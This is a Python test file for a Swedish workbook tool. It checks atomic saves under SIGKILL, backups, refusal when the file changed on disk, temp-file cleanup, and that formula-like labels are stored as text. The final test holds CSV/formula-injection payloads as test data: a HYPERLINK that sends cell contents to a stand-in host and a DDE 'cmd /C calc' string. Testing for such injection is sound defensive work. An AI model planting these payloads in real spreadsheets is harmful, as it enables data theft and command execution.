"""Nothing lost: atomic writes, a backup, refusal when the file changed, kills mid-write,
and text that looks like a formula stays text.

Kills come two ways, neither with a test hook in the product:
- random: ``python -m xlmodel regenerera COPY`` is started and SIGKILLed after a random
  delay between 0 and a little over its run time, as measured on the runs that ended
  before their kill (seeded; at least ``KILL_POINTS`` runs, ``XLMODEL_KILL_POINTS`` to
  change the number, more while fewer than half were killed mid-way);
- named: a child process patches the standard-library calls ``xlmodel.xlsx.atomic``
  makes (``tempfile.mkstemp``, ``os.fsync``, ``os.replace`` …) to SIGKILL itself at
  exactly that step, then runs the real CLI - one run per step of the save.
After every kill the workbook is either byte-identical to the original or byte-identical
to what an uninterrupted run writes (which validates without errors); a backup, if one
exists, equals the original; the only thing a kill may leave is a temp file named
``.~NAME.xlmodel-XXXX.tmp`` (beside the workbook or in .xlmodel-backup), which
``atomic.stale_temp_files`` lists and the next ``regenerera`` removes once stale.
"""

from __future__ import annotations

import os
import random
import shutil
import signal
import statistics
import subprocess
import sys
import threading
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from pathlib import Path

import pytest

from xlmodel.errors import WorkbookError
from xlmodel.workbook.regenerate import regenerate_file
from xlmodel.workbook.validate import validate_file
from xlmodel.xlsx import CellWrite, Package, patch_sheet, read_cells, save_package
from xlmodel.xlsx.lock import lock_path
from xlmodel.xlsx.atomic import BACKUP_DIR, STALE_TEMP_SECONDS, remove_stale_temp_files, stale_temp_files

pytestmark = pytest.mark.skipif(os.name != "posix", reason="SIGKILL")

ROOT = Path(__file__).resolve().parents[1]
REGIONPLAN = ROOT / "workbooks" / "vasterbotten_regionplan_2021.xlsm"
KILL_POINTS = int(os.environ.get("XLMODEL_KILL_POINTS", "60"))
SEED = 20210101


def child_env() -> dict[str, str]:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8", "NO_COLOR": "1"}
    env.pop("XLMODEL_DEBUG", None)
    return env


@pytest.fixture(scope="module")
def scenario(tmp_path_factory) -> dict:
    """The input: the shipped workbook with a committee renamed and HSN's prior frame
    moved by 0,5 mkr to RS (so regenerate has cells to write and the totals still agree);
    the expected output: an uninterrupted run of the CLI on a copy."""
    folder = tmp_path_factory.mktemp("dod")
    original = changed_inputs()
    ref = folder / "ref" / "bok.xlsm"
    ref.parent.mkdir()
    ref.write_bytes(original)
    runs = []
    for _ in range(3):  # the normal run time (median of three), to spread the kill delays over
        ref.write_bytes(original)
        t0 = time.perf_counter()
        proc = subprocess.run([sys.executable, "-m", "xlmodel", "regenerera", str(ref)], capture_output=True,
                              env=child_env(), cwd=ROOT, timeout=120)
        runs.append(time.perf_counter() - t0)
        assert proc.returncode in (0, 1), proc.stderr
    expected = ref.read_bytes()
    assert expected != original
    assert not [f for f in validate_file(ref).findings if f.is_error()]
    return {"folder": folder, "original": original, "expected": expected, "runtime": sorted(runs)[1]}


def changed_inputs() -> bytes:
    pkg = Package.open(REGIONPLAN)
    rs, hsn = (read_cells(pkg, "Ramar")[ref].value for ref in ("D9", "D14"))
    return patch_sheet(pkg, "Ramar", [CellWrite("B9", "Regionstyrelsen (nytt namn)"),
                                       CellWrite("D9", rs + Decimal("0.5")),
                                       CellWrite("D14", hsn - Decimal("0.5"))]).to_bytes()


def outcome(path: Path, scenario: dict) -> str:
    """'orig' or 'ny' (complete new workbook); anything else fails the test."""
    data = path.read_bytes()
    if data == scenario["original"]:
        return "orig"
    if data == scenario["expected"]:
        return "ny"
    Package.open(path)  # not byte-equal: it must at least be a complete, valid workbook
    errors = [f for f in validate_file(path).findings if f.is_error()]
    assert not errors, errors
    return "ny"


def leftovers(path: Path, scenario: dict) -> list[Path]:
    """Check the folder after a kill; return the temp files left (all must be listed
    by stale_temp_files, and every backup must be a full copy of the original)."""
    folder = path.parent
    backups = folder / BACKUP_DIR
    lock = lock_path(path)
    if lock.exists():  # the killed process's write lock: names it, and the next run breaks it
        assert f'"pid": ' in lock.read_text(encoding="utf-8")
    temps = sorted(p for p in [*folder.iterdir(), *(backups.iterdir() if backups.exists() else [])]
                   if p.name.startswith(".~") and p != lock)
    assert temps == sorted(stale_temp_files(path)), temps
    for temp in temps:
        assert temp.name.startswith(f".~{path.name}.xlmodel-") and temp.name.endswith(".tmp")
    others = sorted(p.name for p in folder.iterdir() if not p.name.startswith(".~") and p.name != BACKUP_DIR)
    assert others == [path.name], others
    if backups.exists():
        for b in backups.iterdir():
            if not b.name.startswith(".~"):
                assert b.read_bytes() == scenario["original"], f"ofullständig säkerhetskopia {b}"
    return temps


class RunTime:
    """The CLI's run time as the kill runs see it. The fixture's median of three is only a
    first guess: the kills run two at a time, often beside other tests, so a run may take
    a different time than it did alone. A run that ends before its kill has shown how long a
    whole run takes under the load of the moment, so the estimate follows those; without
    this a busy or quiet machine moves most delays past the end of the run, and the test
    would kill nothing mid-way."""

    def __init__(self, first: float):
        self._samples = [first]
        self._lock = threading.Lock()

    def now(self) -> float:
        with self._lock:
            return statistics.median(self._samples[-5:])

    def add(self, seconds: float) -> None:
        with self._lock:
            self._samples.append(seconds)


def kill_after(fraction: float, index: int, scenario: dict, runtime: RunTime) -> tuple[str, int, int]:
    """Start the CLI, SIGKILL it at ``fraction`` of the current run-time estimate (or note
    that it ended by itself first, and how long it took)."""
    folder = scenario["folder"] / f"slump{index:03d}"
    folder.mkdir()
    path = folder / "bok.xlsm"
    path.write_bytes(scenario["original"])
    delay = fraction * runtime.now()
    t0 = time.perf_counter()
    proc = subprocess.Popen([sys.executable, "-m", "xlmodel", "regenerera", str(path)], cwd=ROOT, env=child_env(),
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        rc = proc.wait(timeout=delay)
        runtime.add(time.perf_counter() - t0)  # ended before its kill: a whole run, timed
    except subprocess.TimeoutExpired:
        proc.send_signal(signal.SIGKILL)
        rc = proc.wait(timeout=120)
    state = outcome(path, scenario)
    temps = leftovers(path, scenario)
    return state, len(temps), rc


def test_random_kills_never_leave_a_damaged_workbook(scenario, record_property):
    rng = random.Random(SEED)
    runtime = RunTime(scenario["runtime"])
    # Kill points as fractions of a run: half anywhere in it, half in its last third, where
    # the save happens; a little over 1 so that some runs end just before their kill.
    fractions = iter(lambda: rng.uniform(0, 1.1) if rng.random() < 0.5 else rng.uniform(0.65, 1.1), None)
    results: list[tuple[str, int, int]] = []
    killed = 0
    # KILL_POINTS runs at least; more (up to three times as many) while fewer than half were
    # killed mid-way, which happens only while the run-time estimate is still settling.
    with ThreadPoolExecutor(max_workers=2) as pool:
        while len(results) < 3 * KILL_POINTS and (len(results) < KILL_POINTS or killed < KILL_POINTS // 2):
            batch = [(next(fractions), len(results) + i) for i in range(2)]
            results += pool.map(lambda a: kill_after(a[0], a[1], scenario, runtime), batch)
            killed = sum(1 for _, _, rc in results if rc == -signal.SIGKILL)
    states = Counter(state for state, _, _ in results)
    temps = sum(n for _, n, _ in results)
    record_property("kill_points", len(results))
    record_property("killed_before_exit", killed)
    record_property("outcomes", dict(states))
    record_property("temp_files_left", temps)
    print(f"\nslumpade dödspunkter: {len(results)}, dödade före slut: {killed}, utfall: {dict(states)}, "
          f"kvarlämnade temporära filer: {temps}, normal körtid {scenario['runtime']:.2f} s, "
          f"sist uppskattad {runtime.now():.2f} s")
    assert len(results) >= KILL_POINTS and set(states) <= {"orig", "ny"}
    assert killed >= KILL_POINTS // 2  # most runs were really killed mid-way


# The steps of atomic.save_package, each as (name, module attribute to patch, which call,
# kill before or after the real call). The child process patches the standard library
# in its own interpreter only; the product has no hook for this.
NAMED_POINTS = [
    ("temp skapad, tom", "tempfile.mkstemp", 1, "after"),
    ("temp skriven, före fsync", "os.fsync", 1, "before"),
    ("temp fsyncad, före kontroll", "os.fsync", 1, "after"),
    ("säkerhetskopia: före kopiering", "shutil.copy2", 1, "before"),
    ("säkerhetskopia: kopierad, före namnbyte", "shutil.copy2", 1, "after"),
    ("säkerhetskopia klar, före byte", "os.chmod", 1, "before"),
    ("före atomiskt namnbyte", "xlmodel.xlsx.atomic._put_in_place", 1, "before"),
    ("efter atomiskt namnbyte", "xlmodel.xlsx.atomic._put_in_place", 1, "after"),
    ("efter byte, före kontroll av det ersatta", "xlmodel.xlsx.atomic._settle_exchange", 1, "before"),
    ("efter byte, före mapp-fsync", "xlmodel.xlsx.atomic._fsync_dir", 2, "before"),
]

CHILD = r"""
import importlib, os, signal, sys
target, nth, when = sys.argv[1], sys.argv[2], sys.argv[3]
module_name, attr = target.rsplit(".", 1)
module = importlib.import_module(module_name)
real = getattr(module, attr)
calls = [0]
def die():
    os.kill(os.getpid(), signal.SIGKILL)
def patched(*args, **kwargs):
    calls[0] += 1
    armed = os.environ.get("ARMED") == "1"
    if armed and when == "before" and calls[0] == int(nth):
        die()
    result = real(*args, **kwargs)
    if armed and when == "after" and calls[0] == int(nth):
        die()
    return result
setattr(module, attr, patched)
import xlmodel.xlsx.atomic as atomic
real_save = atomic.save_package
def armed_save(*a, **k):   # count only the calls the save makes
    calls[0] = 0
    os.environ["ARMED"] = "1"
    return real_save(*a, **k)
atomic.save_package = armed_save
from xlmodel.cli import main  # regenerate_file imports save_package when called: gets armed_save
sys.exit(main(["regenerera", sys.argv[4]]))
"""


@pytest.mark.parametrize("name,target,nth,when", NAMED_POINTS, ids=[p[0] for p in NAMED_POINTS])
def test_kill_at_each_step_of_the_save(name, target, nth, when, scenario, tmp_path):
    path = tmp_path / "bok.xlsm"
    path.write_bytes(scenario["original"])
    proc = subprocess.run([sys.executable, "-c", CHILD, target, str(nth), when, str(path)], cwd=ROOT,
                          env=child_env(), capture_output=True, text=True, timeout=120)
    assert proc.returncode == -signal.SIGKILL, f"dog inte vid '{name}': {proc.returncode} {proc.stderr}"
    state = outcome(path, scenario)
    temps = leftovers(path, scenario)
    before_replace = name not in ("efter atomiskt namnbyte", "efter byte, före kontroll av det ersatta",
                                  "efter byte, före mapp-fsync")
    assert state == ("orig" if before_replace else "ny"), (name, state)
    # The next run finds the leftovers; once they are stale it removes them, then writes.
    if temps:
        old = time.time() - STALE_TEMP_SECONDS - 1
        for t in temps:
            os.utime(t, (old, old))
    killed_lock = lock_path(path).exists()
    result = regenerate_file(path)
    assert (result.lock_note is not None) == killed_lock  # a dead holder's lock is broken, with a note
    assert killed_lock is False or "finns inte längre" in result.lock_note
    assert not lock_path(path).exists()
    assert sorted(result.removed_temp_files) == sorted(map(str, temps))
    assert stale_temp_files(path) == []
    assert path.read_bytes() == scenario["expected"]


def test_fresh_temp_files_are_listed_but_not_removed(tmp_path):
    """A temp file younger than STALE_TEMP_SECONDS may belong to a save in progress."""
    path = tmp_path / "bok.xlsm"
    path.write_bytes(REGIONPLAN.read_bytes())
    fresh = tmp_path / f".~{path.name}.xlmodel-abcd1234.tmp"
    fresh.write_bytes(b"halv")
    other = tmp_path / ".~annan.xlsm.xlmodel-abcd1234.tmp"  # another workbook's: never touched
    other.write_bytes(b"halv")
    assert stale_temp_files(path) == [fresh]
    assert remove_stale_temp_files(path) == []
    old = time.time() - STALE_TEMP_SECONDS - 1
    os.utime(fresh, (old, old))
    os.utime(other, (old, old))
    assert remove_stale_temp_files(path) == [fresh]
    assert not fresh.exists() and other.exists()


# ----------------------------------------------------------------------------- changed on disk


def test_a_write_refuses_when_the_file_changed_since_it_was_read(tmp_path):
    path = tmp_path / "bok.xlsm"
    path.write_bytes(REGIONPLAN.read_bytes())
    pkg = Package.open(path)
    new = patch_sheet(pkg, "Ramtabell", [CellWrite("B5", "ändrad")])
    someone_else = patch_sheet(pkg, "Ramar", [CellWrite("B5", "sparad av någon annan")]).to_bytes()
    path.write_bytes(someone_else)  # a colleague saves the workbook in between
    with pytest.raises(WorkbookError, match="ändrats på disk"):
        save_package(new, path, expect_sha256=pkg.sha256)
    assert path.read_bytes() == someone_else
    assert not (tmp_path / BACKUP_DIR).exists() and not list(tmp_path.glob(".~*"))


def test_regenerate_keeps_a_backup_of_the_original(tmp_path):
    path = tmp_path / "bok.xlsm"
    original = changed_inputs()
    path.write_bytes(original)
    result = regenerate_file(path)
    assert result.written and result.backup
    assert Path(result.backup).read_bytes() == original
    assert Path(result.backup).parent == tmp_path / BACKUP_DIR
    assert not list(tmp_path.glob(".~*")) and not list((tmp_path / BACKUP_DIR).glob(".~*"))


# ----------------------------------------------------------------------------- formula injection

INJECTIONS = {
    "A5": '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")',
    "A6": "+46 90 785 00 00",
    "A7": "@SUM(1+1)*cmd|' /C calc'!A0",
    "A8": "-2+3",
}


def test_labels_that_look_like_formulas_are_written_as_text(tmp_path):
    """Committee labels typed in Ramar B5:B8 that start with =, +, @ and - are copied to
    the Ramtabell labels as text: openpyxl (formula mode) and our reader see strings,
    never formulas, and validate is clean."""
    path = tmp_path / "bok.xlsm"
    labels = {f"B{ref[1:]}": text for ref, text in INJECTIONS.items()}
    path.write_bytes(patch_sheet(Package.open(REGIONPLAN), "Ramar", [CellWrite(r, v) for r, v in labels.items()]).to_bytes())
    result = regenerate_file(path, backup=False)
    assert {c.cell for c in result.changes} >= set(labels)
    ours = read_cells(Package.open(path), "Ramtabell")
    import openpyxl

    ws = openpyxl.load_workbook(path, data_only=False)["Ramtabell"]
    for ref, text in labels.items():
        assert ours[ref].formula is None and ours[ref].value == text and ours[ref].kind == "inlineStr"
        assert ws[ref].data_type == "s" and ws[ref].value == text, (ref, ws[ref].data_type, ws[ref].value)
    assert not [f for f in validate_file(path).findings if f.is_error()]
